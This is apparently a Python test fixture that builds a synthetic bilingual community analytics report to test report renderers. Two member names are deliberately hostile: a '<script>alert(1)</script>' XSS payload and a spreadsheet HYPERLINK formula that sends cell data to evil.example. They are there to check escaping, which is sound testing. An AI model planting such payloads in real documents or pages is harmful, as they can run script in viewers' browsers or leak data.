"""A realistic hand-made Report for renderer tests (no pipeline involved).

It covers every chart kind, every KPI unit and target status, tables with dates,
datetimes, member columns (one member is literally ``<script>alert(1)</script>``, another
``=HYPERLINK(...)``) and a long ranking table, methodology entries and section extras.
"""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta

import numpy as np
import polars as pl

from communityroi import (
    KPI,
    Chart,
    ColumnInfo,
    Finding,
    Formula,
    Period,
    Report,
    Section,
    T,
    Table,
)

XSS = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
START, END = date(2025, 1, 1), date(2025, 3, 31)


def _members(n: int) -> list[str]:
    return [f"M-{(i * 7919) % 100_000:05d}" for i in range(n)]


def roi_section() -> Section:
    campaigns = pl.DataFrame(
        {
            "name": ["春节快闪群", "VIP 私享会", "Live Q&A", "新品预售", "老带新裂变"],
            "investment": [18_000.0, 24_500.0, 6_200.0, 31_000.0, 9_800.0],
            "return": [52_340.5, 61_200.0, 4_100.0, 88_900.25, 30_150.0],
        }
    ).with_columns(roi=(pl.col("return") - pl.col("investment")) / pl.col("investment") * 100)
    cats = pl.DataFrame(
        {
            "category": ["labour", "ads", "content", "platform_fee", "tools"],
            "amount": [42_000.0, 25_000.0, 12_000.0, 6_500.0, 4_000.0],
            "share": [46.9, 27.9, 13.4, 7.3, 4.5],
        }
    )
    money = ColumnInfo(T("Investment", "投入"), "currency")
    return Section(
        metric="roi",
        title=T("Return on investment", "投资回报"),
        intro=T("What the community cost and what it brought back.", "社群投入与带来的回报。"),
        kpis=(
            KPI("roi", T("ROI", "投资回报率"), 156.3, "percent", headline=True,
                formula=T("(R − I) / I × 100 %"), previous=121.0, change=35.3,
                target=150.0, target_op=">=", status="met"),
            KPI("investment", T("Investment", "投入"), 89_500.0, "currency", previous=80_000.0,
                change=0.11875, higher_is_better=False),
            KPI("return", T("Attributed return", "归因回报"), 229_390.75, "currency",
                headline=True, previous=176_800.0, change=0.2975),
            KPI("payback_days", T("Payback", "回本周期"), 35.1, "days", headline=True,
                higher_is_better=False, previous=40.7, change=-0.1376,
                target=30.0, target_op="<=", status="near"),
            KPI("cost_per_buyer", T("Cost per buyer", "单个购买者成本"), 127.86, "currency",
                headline=True, higher_is_better=False, previous=120.0, change=0.0655,
                target=100.0, target_op="<=", status="missed"),
        ),
        tables=(
            Table("campaigns", T("ROI by campaign", "各活动 ROI"), campaigns,
                  {"name": ColumnInfo(T("Campaign", "活动")), "investment": money,
                   "return": ColumnInfo(T("Return", "回报"), "currency"),
                   "roi": ColumnInfo(T("ROI", "ROI"), "percent")}),
            Table("categories", T("Investment by category", "成本构成"), cats,
                  {"category": ColumnInfo(T("Category", "类别")),
                   "amount": ColumnInfo(T("Amount", "金额"), "currency"),
                   "share": ColumnInfo(T("Share", "占比"), "percent")}),
        ),
        charts=(
            Chart("campaigns", "bar", T("Investment vs return by campaign", "各活动投入与回报"),
                  "campaigns", "name", ("investment", "return"), unit="currency",
                  y_label=T("Amount", "金额")),
            Chart("roi_by_campaign", "hbar", T("ROI by campaign", "各活动 ROI"), "campaigns",
                  "name", ("roi",), unit="percent"),
        ),
        findings=(
            Finding(T("ROI rose to 156.3 %, above the 150 % target.",
                      "ROI 升至 156.3%，高于 150% 的目标。"), "good", 10),
            Finding(T("Live Q&A returned less than it cost (ROI −33.9 %).",
                      "Live Q&A 活动回报低于投入（ROI −33.9%）。"), "bad", 8),
        ),
        methodology=(
            Formula(T("ROI", "投资回报率"), T("ROI = (R − I) / I × 100 %"),
                    T("R: attributed return of paid orders; I: all costs in the period.",
                      "R：已支付订单的归因回报；I：报告期内全部成本。")),
            Formula(T("Payback", "回本周期"), T("I / (R / days in period)")),
        ),
        extra={"attribution": [{"en": "An order counts when its buyer is a member or it "
                                      "carries a campaign id.",
                                "zh-CN": "订单的购买者是社群成员或订单带有活动 ID 时计入。"}]},
    )  # fmt: skip


def health_section() -> Section:
    days = pl.date_range(START, END, "1d", eager=True)
    i = np.arange(days.len())
    daily = pl.DataFrame(
        {
            "day": days,
            "active": (420 + 60 * np.sin(i / 6) + i * 1.8).round(0).astype(int),
            "new_members": (30 + 12 * np.cos(i / 4) + (i % 7 == 5) * 25).round(0).astype(int),
        }
    )
    hours = pl.DataFrame(
        {
            "hour": [h for _ in range(7) for h in range(24)],
            "weekday": [d for d in range(1, 8) for _ in range(24)],
            "messages": [
                int(40 + 120 * np.exp(-((h - 21) ** 2) / 8) + 60 * np.exp(-((h - 12) ** 2) / 3)
                    + (d >= 6) * 30)
                for d in range(1, 8) for h in range(24)
            ],
        }
    )  # fmt: skip
    funnel = pl.DataFrame(
        {
            "stage": ["Joined 入群", "Active 活跃", "Buyer 购买", "Repeat buyer 复购"],
            "members": [5_120, 2_980, 1_040, 388],
        }
    )
    return Section(
        metric="health",
        title=T("Community health", "社群健康度"),
        kpis=(
            KPI("members", T("Members at end", "期末成员数"), 5120, "count", headline=True,
                previous=4480, change=0.142857),
            KPI("activity_rate", T("Activity rate", "活跃率"), 58.2, "percent", headline=True,
                previous=61.0, change=-2.8, target=60.0, target_op=">=", status="near"),
            KPI("stickiness", T("DAU/MAU", "日活/月活"), 0.31, "ratio", headline=True,
                previous=0.31, change=0.0),
            KPI("messages_per_member", T("Messages", "人均消息"), 14.25, "per_member"),
            KPI("response_hours", T("First response", "首次响应"), 2.4, "hours",
                higher_is_better=False),
        ),
        tables=(
            Table("daily", T("Daily activity", "每日活跃"), daily,
                  {"day": ColumnInfo(T("Day", "日期"), "date"),
                   "active": ColumnInfo(T("Active members", "活跃成员"), "count"),
                   "new_members": ColumnInfo(T("New members", "新成员"), "count")}, show=False),
            Table("hours", T("Messages by hour", "按小时消息数"), hours, show=False),
            Table("funnel", T("Funnel", "转化漏斗"), funnel,
                  {"stage": ColumnInfo(T("Stage", "阶段")),
                   "members": ColumnInfo(T("Members", "成员"), "count")}),
        ),
        charts=(
            Chart("daily", "line", T("Daily active and new members", "每日活跃与新增成员"),
                  "daily", "day", ("active", "new_members"), unit="count"),
            Chart("hours", "heatmap", T("Best posting hours", "最佳发帖时段"), "hours", "hour",
                  ("weekday",), value="messages", unit="count",
                  x_label=T("Hour of day", "小时")),
            Chart("funnel", "funnel", T("Joined → active → buyer → repeat", "转化漏斗"),
                  "funnel", "stage", ("members",), unit="count"),
        ),
        findings=(
            Finding(T("Evenings 20:00–22:00 get the most replies.",
                      "晚上 20:00–22:00 互动最多。"), "neutral", 5),
            Finding(T("Activity rate slipped 2.8 points.", "活跃率下降 2.8 个百分点。"),
                    "bad", 6),
        ),
        methodology=(
            Formula(T("Activity rate", "活跃率"), T("active members / members at end × 100 %")),
        ),
    )  # fmt: skip


def retention_section() -> Section:
    rows = []
    for c in range(6):
        for off in range(6 - c):
            rows.append(
                {"cohort": date(2024, 10 + c, 1) if c < 3 else date(2025, c - 2, 1),
                 "offset": off, "retained": round(100 * 0.62 ** (off ** 0.8) - c, 1)}
            )  # fmt: skip
    df = pl.DataFrame(rows)
    return Section(
        metric="retention",
        title=T("Retention", "留存"),
        tables=(Table("cohorts", T("Cohort retention", "同期群留存"), df,
                      {"cohort": ColumnInfo(T("Cohort", "入群月"), "date"),
                       "offset": ColumnInfo(T("Month", "月份"), "count"),
                       "retained": ColumnInfo(T("Retained", "留存率"), "percent")}, show=False),),
        charts=(Chart("cohorts", "heatmap", T("Retention by join month", "按入群月的留存"),
                      "cohorts", "offset", ("cohort",), value="retained", unit="percent",
                      x_label=T("Months since joining", "入群后月数")),),
        kpis=(KPI("m1_retention", T("Month-1 retention", "次月留存"), 61.9, "percent",
                  headline=True, previous=55.0, change=6.9),),
    )  # fmt: skip


def clv_section(rows: int = 120) -> Section:
    members = _members(rows)
    members[3] = XSS
    members[5] = FORMULA
    rng = np.random.default_rng(7)
    clv = np.sort(rng.gamma(2.0, 400.0, rows))[::-1].round(2)
    first = [datetime(2024, 6, 1, 9, 30, tzinfo=UTC) + timedelta(hours=37 * k) for k in range(rows)]
    top = pl.DataFrame(
        {
            "member": members,
            "orders": (clv // 150 + 1).astype(int),
            "clv": clv,
            "p_alive": np.linspace(0.99, 0.35, rows).round(3) * 100,
            "first_order": first,
        }
    )
    edges = np.histogram(clv, bins=[0, 250, 500, 750, 1000, 1500, 2000, 5000])
    hist = pl.DataFrame(
        {
            "bin": ["<250", "250–500", "500–750", "750–1k", "1k–1.5k", "1.5k–2k", "≥2k"],
            "members": edges[0].astype(int),
        }
    )
    return Section(
        metric="clv",
        title=T("Customer lifetime value", "客户终身价值"),
        kpis=(
            KPI("clv_avg", T("Average CLV", "平均 CLV"), 812.4, "currency", headline=True,
                previous=760.0, change=0.0689),
            KPI("p_alive", T("Probability alive", "存活概率"), 72.5, "percent"),
            KPI("loyalty", T("Loyalty score", "忠诚度得分"), 67.8, "score", previous=64.1,
                change=0.0577),
        ),
        tables=(
            Table("top_members", T("Most valuable members", "高价值成员"), top,
                  {"member": ColumnInfo(T("Member", "成员"), "member"),
                   "orders": ColumnInfo(T("Orders", "订单数"), "count"),
                   "clv": ColumnInfo(T("Predicted CLV", "预测 CLV"), "currency"),
                   "p_alive": ColumnInfo(T("P(alive)", "存活概率"), "percent"),
                   "first_order": ColumnInfo(T("First order", "首单时间"), "datetime")},
                  note=T("CLV over the next 12 months.", "未来 12 个月的 CLV。")),
            Table("distribution", T("CLV distribution", "CLV 分布"), hist, show=False),
        ),
        charts=(Chart("distribution", "histogram", T("Members by CLV", "CLV 分布"),
                      "distribution", "bin", ("members",), unit="count",
                      x_label=T("Predicted CLV (¥)", "预测 CLV（元）"),
                      y_label=T("Members", "成员数")),),
        methodology=(
            Formula(T("Predicted CLV", "预测 CLV"),
                    T("E[transactions] (BG/NBD) × E[spend] (Gamma-Gamma)")),
        ),
        extra={"model": {"r": 0.243, "alpha": 4.414, "a": 0.793, "b": 2.426}},
    )  # fmt: skip


def influence_section() -> Section:
    members = _members(30)
    members[2] = XSS
    src, dst, w = [], [], []
    for k in range(60):
        a, b = (k * 7) % 30, (k * 11 + 3) % 30
        if a != b:
            src.append(members[a % 9 if k % 3 else a])
            dst.append(members[b])
            w.append(1 + (k % 5))
    edges = pl.DataFrame({"source": src, "target": dst, "weight": w})
    rank = pl.DataFrame(
        {"member": members[:10], "score": np.linspace(98, 61, 10).round(1),
         "invited": [14, 9, 9, 7, 6, 5, 5, 4, 3, 3]}
    )  # fmt: skip
    return Section(
        metric="influence",
        title=T("Influence and referrals", "影响力与裂变"),
        kpis=(KPI("k_factor", T("K-factor", "K 因子"), 0.42, "ratio", headline=True,
                  previous=0.35, change=0.2, target=0.5, target_op=">=", status="missed"),),
        tables=(
            Table("edges", T("Interactions", "互动关系"), edges,
                  {"source": ColumnInfo(T("From", "发起"), "member"),
                   "target": ColumnInfo(T("To", "对象"), "member"),
                   "weight": ColumnInfo(T("Interactions", "互动次数"), "count")}, show=False),
            Table("ranking", T("Top influencers", "影响力排行"), rank,
                  {"member": ColumnInfo(T("Member", "成员"), "member"),
                   "score": ColumnInfo(T("Influence", "影响力"), "score"),
                   "invited": ColumnInfo(T("Invited", "邀请人数"), "count")}),
        ),
        charts=(Chart("graph", "network", T("Who talks to whom", "互动网络"), "edges", "source",
                      ("target",), value="weight"),),
        findings=(Finding(T("Three members started 40 % of all threads.",
                            "三位成员发起了 40% 的话题。"), "good", 7),),
    )  # fmt: skip


def make_report(language: str = "en", **changes) -> Report:
    """The fixture report; keyword arguments replace Report fields."""
    fields = dict(
        title="Q1 2025 Community Report" if language == "en" else "2025 年第一季度社群报告",
        client="Acme Tea 阿克米茶饮",
        agency="Bright Loop 明环数字",
        language=language,
        currency="CNY",
        timezone="Asia/Shanghai",
        period=Period(START, END),
        previous_period=Period(date(2024, 10, 1), date(2024, 12, 31)),
        sections=(roi_section(), health_section(), retention_section(), clv_section(),
                  influence_section()),
        branding={"logo": None, "cover_image": None, "primary_color": "#1f4e79",
                  "accent_color": "#e07a1f", "font_family": None,
                  "footer": "Confidential · prepared for Acme Tea", "contact":
                  "hello@brightloop.example · +86 21 5555 0000", "agency": "Bright Loop",
                  "theme": "default"},
        settings={"report": {"title": "Q1", "language": language, "currency": "CNY"},
                  "privacy": {"pseudonymize": True, "salt": "s3cr3t"},
                  "metrics": {"roi": {"return_basis": "revenue"}},
                  "targets": {"roi.roi": ">= 150"}},
        warnings=("orders.csv: 3 orders in USD were converted at 7.10",),
        pseudonymized=True,
    )  # fmt: skip
    fields.update(changes)
    return Report(**fields)
